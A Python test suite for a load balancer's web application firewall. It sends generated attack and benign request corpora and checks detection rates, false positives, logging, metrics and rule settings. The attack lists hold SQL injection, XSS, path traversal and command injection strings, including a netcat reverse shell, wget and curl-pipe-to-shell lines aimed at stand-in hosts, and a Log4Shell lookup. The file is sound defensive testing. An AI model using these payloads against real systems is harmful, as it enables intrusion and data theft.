"""The WAF (docs/waf.md) through the real lbd: an attack corpus and a benign
corpus of realistic requests sent over HTTP, the detection and
false-positive rates printed (and bounded), detect mode, a route's merge
with its listener's group, deny_path_regex through encodings, the metrics
and the log lines, and hostile heads full of near-matches.

The corpora are generated here from the public classes of attack
(tautologies, UNION SELECT, stacked queries, comment tricks, script tags,
event handlers, javascript: URLs, traversal in its encodings, shell
separators and substitutions, header injection) and from what real traffic
looks like (search queries with quotes and apostrophes, JSON APIs, words
such as select, union and order, base64 tokens, markdown, browsers'
User-Agents), each in several encodings and places."""

import http.client
import os
import random
import re
import socket
import time
import urllib.parse

import pytest

from helpers import lbd_test, wait_until
from test_admin import admin

WAF_CONF = """
listeners = ( {
  name = "web"; protocol = "http"; listen = "$listen";
  waf = { $waf };
  routes = (
    { path_prefix = "/detect"; waf = { mode = "detect"; };
      return = { status = 200; body = "detect\\n"; }; },
    { path_prefix = "/search"; waf = { disable = ["sqli-1", "sqli-5"]; status = 406; };
      return = { status = 200; body = "search\\n"; }; },
    { path_prefix = "/open"; waf = { enabled = false; };
      return = { status = 200; body = "open\\n"; }; },
    { path_prefix = "/"; return = { status = 200; body = "ok\\n"; }; }
  );
} );
"""


def start(lbd, waf='rules = "basic";'):
    lbd.start(WAF_CONF, waf=waf)


class Client:
    """One keep-alive connection; reopened after lbd closes it (a refusal
    closes the connection)."""

    def __init__(self, address):
        self.host, port = address.rsplit(":", 1)
        self.port = int(port)
        self.conn = None

    def status(self, path, headers=None):
        for attempt in range(2):
            if self.conn is None:
                self.conn = http.client.HTTPConnection(self.host, self.port, timeout=10)
            try:
                self.conn.putrequest("GET", path, skip_accept_encoding=True)
                for name, value in (headers or {}).items():
                    self.conn.putheader(name, value)
                self.conn.endheaders()
                resp = self.conn.getresponse()
                resp.read()
                if resp.will_close:
                    self.conn.close()
                    self.conn = None
                return resp.status
            except (http.client.HTTPException, OSError):
                self.conn.close()
                self.conn = None
                if attempt:
                    raise
        return None

    def close(self):
        if self.conn:
            self.conn.close()


def q(s):
    return urllib.parse.quote(s, safe="")


# The attack corpus -------------------------------------------------------------------

SQLI = [
    "1' or '1'='1", "' or ''='", "admin'--", "admin' #", "' or 1=1--", "1 or 1=1",
    "1' and '1'='1", "\" or \"\"=\"", "') or ('a'='a", "x' or 'x' like 'x",
    "1 union select null,null--", "1 UNION ALL SELECT username,password FROM users",
    "-1 union/**/select/**/1,2,3", "1 union distinct select @@version",
    "1; drop table users", "1; DELETE FROM orders", "5; update users set admin=1",
    "1; exec xp_cmdshell 'dir'", "1; shutdown", "'; insert into log values(1)--",
    "1' and sleep(5)--", "1 and benchmark(5000000,md5(1))", "1'; waitfor delay '0:0:5'--",
    "1 and pg_sleep(5)", "' union select load_file('/etc/passwd')--",
    "1 into outfile '/tmp/x'", "1 and (select * from information_schema.tables)",
    "1' and extractvalue(1,concat(0x7e,version()))--", "/*!50000union*/ select 1",
    "1 order by 10--", "1 having 1=1", "char(115,101,108,101,99,116)",
    "x' and (select count(*) from users)>0--", "' or true--", "admin')--",
    "1' or 'a'='a' /*", "1' || '1'='1", "1' && '1'='1", "1 or 2>1--",
    "1' and 1=(select 1 from sysobjects)--",
]

XSS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(document.cookie)</ScRiPt>",
    "< script >x</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<body onload=alert(1)>", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
    "<a href=\"javascript:alert(1)\">x</a>", "javascript:alert(1)", "JaVaScRiPt:alert(1)",
    "<iframe src=//evil.example>", "<object data=x>", "<embed src=x>",
    "<svg><script>x</script></svg>", "<div style=\"width:expression(alert(1))\">",
    "data:text/html,<script>alert(1)</script>", "<meta http-equiv=refresh content=0>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "';alert(String.fromCharCode(88,83,83))//", "<img src=x:alert(1) onerror=eval(src)>",
    "\"><script>alert(1)</script>", "<style>@import 'x'</style>", "<math><mtext>x",
    "<form action=javascript:alert(1)>", "<base href=//evil>", "<link rel=import href=x>",
    "<iframe srcdoc=\"<script>x</script>\">", "document.write('<b>')",
]

TRAVERSAL = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow",
    "../../../proc/self/environ", "....//....//etc/passwd", "..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/hosts", "..%5c..%5cboot.ini", "/../../etc/group", "..",
]

COMMANDS = [
    "; cat /etc/passwd", "| id", "&& whoami", "`uname -a`", "$(id)", "; ls -la",
    "| nc -e /bin/sh 10.0.0.1 4444", "; wget http://evil.example/x.sh", "&& curl evil|sh",
    "${jndi:ldap://evil.example/a}", "${${::-j}${::-n}${::-d}${::-i}:ldap://x}",
    "a;sleep 5", "x|bash -i", "$(curl evil)", "; /bin/bash -c id", "a${IFS}b",
    "() { :; }; /bin/bash -c 'id'",
]

HEADER_INJECTION = [
    "x\r\nSet-Cookie: admin=1", "x\r\nLocation: //evil", "a\nX-Injected: 1",
]


def encodings(payload):
    """The payload as a query value: percent-encoded once, twice, with + for
    spaces, and in mixed case."""
    once = q(payload)
    yield once
    yield q(once)                                   # double encoding
    yield urllib.parse.quote_plus(payload, safe="")
    yield "".join(c.upper() if i % 2 else c for i, c in enumerate(once))


def attack_requests():
    """(path, headers, what) for every attack in every place."""
    reqs = []
    for payload in SQLI + XSS + COMMANDS + HEADER_INJECTION:
        for enc in encodings(payload):
            reqs.append((f"/items?id={enc}", {}, payload))
        reqs.append((f"/items?page=2&filter={q(payload)}&sort=asc", {}, payload))
        reqs.append(("/account", {"Cookie": f"lang=en; session={q(payload)}"}, payload))
    for payload in SQLI[:15] + XSS[:10] + COMMANDS:
        if "\r" not in payload and "\n" not in payload:
            reqs.append(("/", {"User-Agent": payload}, payload))
    for payload in TRAVERSAL:
        reqs.append((f"/static/{q(payload)}", {}, payload))
        reqs.append((f"/download?file={q(payload)}", {}, payload))
        reqs.append((f"/download?file={q(q(payload))}", {}, payload))
    for path in ["/static/..%2f..%2fetc/passwd", "/a/%252e%252e/%252e%252e/etc/passwd",
                 "/.git/config", "/.env", "/app/..;/..;/etc/passwd", "/x/%c0%ae%c0%ae/y",
                 "/item/1%20union%20select%201", "/%3Cscript%3E", "/a%00.php",
                 "/cgi-bin/test%0d%0aX-A:%20b"]:
        reqs.append((path, {}, path))
    return reqs


# The benign corpus -------------------------------------------------------------------

WORDS = ("shoes dress jacket laptop phone case charger coffee tea mug book novel guitar "
         "union station select committee order history drop shipping table tennis "
         "update firmware delete account insert coin script writing alert system "
         "window blinds document scanner cookie jar sleep mask information desk "
         "execute order 66 grant proposal create account exec summary from where "
         "and or not like is null true false rock roll jazz blues python java").split()

SEARCHES = [
    "O'Reilly books", "rock 'n' roll", "\"exact phrase\" search", "it's raining",
    "don't stop believin'", "children's books", "5' 10\" height", "Tom & Jerry",
    "salt & pepper", "50% off", "C++ tutorial", "C# vs Java", "what is 2+2?",
    "how to select all in excel", "union square hotels", "order by date",
    "trade union select committee", "drop table plans", "best coffee; espresso",
    "mom's kitchen", "l'Oréal paris", "café au lait", "naïve bayes", "東京 ホテル",
    "señor frog's", "rock & roll hall of fame", "a < b and c > d", "x=y+z",
    "email me at jane.doe@example.com", "1/2 cup sugar", "tennis (sport)",
    "sleep study results", "javascript tutorial for beginners", "the onion",
    "document management", "window cleaning", "string theory", "boot camp",
    "proc means sas", "etc and so on", "bin collection day", "bash birthday party",
    "10 > 5", "#hashtag", "@username", "$100 budget", "price: low to high",
    "why is the sky blue?", "pros/cons", "cat & dog toys", "echo dot",
    "ping pong table", "curl hair tutorial", "id card renewal", "ls 500 review",
]

MARKDOWN = [
    "**bold** and _italic_", "# Title\n\nSome text", "- item one\n- item two",
    "[link](https://example.com/page)", "`code` sample", "> a quote from someone",
    "1. first\n2. second", "Hello, world! How are you?", "See https://example.com?a=1&b=2",
    "I'd say it's fine; isn't it?", "Use the --verbose flag", "Costs $5 (plus tax)",
]

UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.2 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.6099.43 Mobile Safari/537.36",
    "curl/7.88.1", "python-requests/2.31.0", "Go-http-client/1.1", "okhttp/4.12.0",
    "Googlebot/2.1 (+http://www.google.com/bot.html)", "Wget/1.21.3",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
]


def benign_requests(n=2400, seed=7):
    rnd = random.Random(seed)
    reqs = []

    def words(k):
        return " ".join(rnd.choice(WORDS) for _ in range(k))

    def b64(k):
        return "".join(rnd.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
                                  "0123456789+/") for _ in range(k)) + "=="

    makers = [
        lambda: f"/search?q={q(rnd.choice(SEARCHES))}&page={rnd.randint(1, 50)}",
        lambda: f"/search?q={urllib.parse.quote_plus(words(rnd.randint(1, 6)))}",
        lambda: f"/products?category={rnd.choice(WORDS)}&sort={rnd.choice(['order', 'price', 'select', 'date'])}"
                f"&dir={rnd.choice(['asc', 'desc'])}&limit={rnd.randint(1, 100)}",
        lambda: f"/api/v{rnd.randint(1, 3)}/users/{rnd.randint(1, 10**6)}/orders/{rnd.randint(1, 10**6)}",
        lambda: "/api/items?filter=" + q('{"status":"%s","tags":["%s","%s"],"min":%d}' % (
            rnd.choice(WORDS), rnd.choice(WORDS), rnd.choice(WORDS), rnd.randint(0, 999))),
        lambda: f"/auth/callback?code={b64(rnd.randint(16, 64))}&state={b64(12)}",
        lambda: f"/comments?text={q(rnd.choice(MARKDOWN))}",
        lambda: f"/blog/{rnd.randint(2015, 2025)}/{rnd.randint(1, 12):02d}/"
                f"{'-'.join(rnd.choice(WORDS) for _ in range(4))}",
        lambda: f"/static/js/app.{rnd.getrandbits(32):08x}.js",
        lambda: f"/static/img/{rnd.choice(WORDS)}_{rnd.randint(1, 999)}.png?v={rnd.randint(1, 99)}",
        lambda: f"/redirect?next={q('/account/settings?tab=' + rnd.choice(WORDS))}",
        lambda: f"/track?utm_source={rnd.choice(['newsletter', 'google', 'twitter'])}"
                f"&utm_medium=email&utm_campaign={rnd.choice(WORDS)}_{rnd.randint(1, 9)}",
        lambda: f"/graphql?query={q('{ user(id: %d) { name email orders { id total } } }' % rnd.randint(1, 999))}",
        lambda: f"/maps?ll={rnd.uniform(-90, 90):.6f},{rnd.uniform(-180, 180):.6f}&z={rnd.randint(1, 20)}",
        lambda: f"/download?file={q(rnd.choice(['reports/2024/q1.pdf', 'docs/manual v2.pdf', 'img/logo.svg']))}",
        lambda: f"/wiki/{q(rnd.choice(['Union_(set_theory)', 'SELECT_(SQL)', 'Order_of_operations', 'Drop_(liquid)', 'Rock_and_roll']))}",
        lambda: f"/.well-known/acme-challenge/{b64(30).rstrip('=').replace('+', '-').replace('/', '_')}",
        lambda: f"/calc?expr={q(rnd.choice(['1+1', '2*3', '(4+5)/3', '10-2=8', 'a = b + c']))}",
        lambda: f"/contact?email={q('user%d@example.com' % rnd.randint(1, 999))}&name={q(rnd.choice(['Anne-Marie', 'Jean-Luc', 'Zoë', 'Seán O Brien', 'D Angelo']))}",
        lambda: f"/products/{rnd.choice(WORDS)}-{rnd.choice(WORDS)}-{rnd.randint(100, 999)}",
    ]
    for i in range(n):
        path = rnd.choice(makers)()
        headers = {"User-Agent": rnd.choice(UAS)}
        if rnd.random() < 0.5:
            headers["Cookie"] = (f"sid={b64(24)}; theme={rnd.choice(['dark', 'light'])}; "
                                 f"_ga=GA1.2.{rnd.randint(10**8, 10**9)}.{rnd.randint(10**9, 2 * 10**9)}")
        if rnd.random() < 0.3:
            headers["Referer"] = f"https://www.example.com/search?q={q(rnd.choice(SEARCHES))}"
        reqs.append((path, headers))
    return reqs


# Tests -------------------------------------------------------------------------------

def test_attacks_are_refused_and_clean_traffic_passes(lbd):
    start(lbd)
    client = Client(lbd.address)
    attacks = attack_requests()
    missed = []
    for path, headers, payload in attacks:
        # 400: the http core refused it before the WAF (a NUL in the path)
        if client.status(path, headers) not in (400, 403):
            missed.append((path, payload))
    benign = benign_requests()
    refused = []
    for path, headers in benign:
        if client.status(path, headers) != 200:
            refused.append((path, headers))
    client.close()
    detection = 1 - len(missed) / len(attacks)
    false_positives = len(refused) / len(benign)
    print(f"\nwaf: detection {100 * detection:.1f}% of {len(attacks)} attack requests, "
          f"false positives {100 * false_positives:.2f}% of {len(benign)} clean requests")
    for path, payload in missed[:20]:
        print(f"  missed: {payload!r} as {path}")
    for path, headers in refused[:20]:
        print(f"  refused: {path} {headers.get('Cookie', '')[:40]}")
    assert len(benign) >= 2000
    assert detection >= 0.95, missed[:20]
    assert false_positives <= 0.01, refused[:20]


def test_a_refusal_is_logged_counted_and_closes(lbd):
    start(lbd)
    conn = http.client.HTTPConnection(*lbd.address.rsplit(":", 1), timeout=10)
    conn.request("GET", "/items?id=" + q("1 union select password from users"))
    resp = conn.getresponse()
    resp.read()
    assert resp.status == 403 and resp.will_close
    conn.close()
    wait_until(lambda: re.search(r"\[warn\].*waf: rule sqli-3 matched the arg id of a request "
                                 r"from 127\.0\.0\.1 on listener \"web\" route #4; refused",
                                 open(lbd.error_log_path).read()), 5, what="the waf line")
    status, _, body = admin(lbd, "GET", "/metrics")
    assert status == 200
    assert re.search(r'lbd_http_waf_hits_total\{listener="web",route="4",action="blocked"\} 1\b',
                     body), body[:2000]


def test_detect_mode_logs_and_lets_through(lbd):
    start(lbd)
    client = Client(lbd.address)
    assert client.status("/detect?x=" + q("<script>alert(1)</script>")) == 200
    client.close()
    wait_until(lambda: "let through (detect mode)" in open(lbd.error_log_path).read(), 5,
               what="the detect line")
    _, _, body = admin(lbd, "GET", "/metrics")
    assert re.search(r'lbd_http_waf_hits_total\{listener="web",route="1",action="detected"\} 1\b',
                     body)


def test_a_route_merges_with_its_listener(lbd):
    """/search disables sqli-1 and sqli-5 and answers 406; the rest of the
    listener's rules still apply there; /open turns the WAF off."""
    start(lbd, waf='rules = "basic"; disable = ["xss-4"];')
    client = Client(lbd.address)
    assert client.status("/search?q=" + q("it' or 'a'='a")) == 200       # sqli-1 off here
    assert client.status("/items?q=" + q("it' or 'a'='a")) == 403         # not elsewhere
    assert client.status("/search?q=" + q("1 union select 1")) == 406     # its own status
    assert client.status("/search?q=" + q("<iframe src=x>")) == 200       # the listener's disable
    assert client.status("/items?q=" + q("<iframe src=x>")) == 200
    assert client.status("/open?q=" + q("<script>x</script>")) == 200
    assert client.status("/items?q=" + q("<script>x</script>")) == 403
    client.close()


def test_deny_path_regex_sees_the_normalised_path(lbd):
    start(lbd, waf='rules = "none"; deny_path_regex = ["^/admin/", "\\\\.php$"];')
    client = Client(lbd.address)
    for path in ["/admin/users", "/ADMIN/users", "/%61dmin/users", "//admin//x",
                 "/./admin/x", "/index.php", "/index.PhP", "/index%2ephp"]:
        assert client.status(path) == 403, path
    for path in ["/administrator", "/php/index.html", "/?q=1 union select 1"]:
        assert client.status(path.replace(" ", "%20")) == 200, path
    client.close()


def test_an_unknown_rule_or_a_bad_setting_is_a_load_error(lbd):
    for waf, message in [
        ('disable = ["sqli-99"];', r'unknown WAF rule "sqli-99" in "disable"'),
        ('rules = "strict";', r'"rules" of "waf" must be "basic" or "none"'),
        ('mode = "log";', r'mode'),
        ('status = 200;', r'status'),
        ('deny_path_regex = ["("];', r'invalid regex'),
        ('colour = 1;', r'unknown setting "colour"'),
    ]:
        lbd.write_config(WAF_CONF, waf=waf)
        r = lbd_test(lbd.conf_path)
        line = lbd.line_of("waf = { " + waf)
        assert r.returncode == 1, waf
        assert re.search(rf"lbd.conf:{line}: .*{message}", r.stdout + r.stderr), (waf, r.stdout
                                                                                  + r.stderr)


def test_heads_full_of_near_matches_are_answered(lbd):
    """The largest head lbd takes (16 KiB by default), a User-Agent or an
    argument of near-matches: answered at once, never stuck in the regex
    engine (the unit test asserts the match limits; this prints the time)."""
    start(lbd)
    worst = 0.0
    for unit in ["' or ", "<a on", "union/**/", "((", "$(", "../", "%25", "' ", "or 1="]:
        for place in ["ua", "arg", "cookie"]:
            body = (unit * (14000 // len(unit)))
            if place == "ua":
                path, headers = "/", {"User-Agent": body}
            elif place == "arg":
                path, headers = "/x?a=" + q(body)[:14000], {}
            else:
                path, headers = "/", {"Cookie": "a=" + body}
            client = Client(lbd.address)
            t = time.monotonic()
            status = client.status(path, headers)
            worst = max(worst, time.monotonic() - t)
            client.close()
            assert status in (200, 403, 414, 431), (unit, place, status)
    print(f"\nwaf: slowest near-miss request {1000 * worst:.1f} ms")
    assert "waf-limit" not in open(lbd.error_log_path).read()
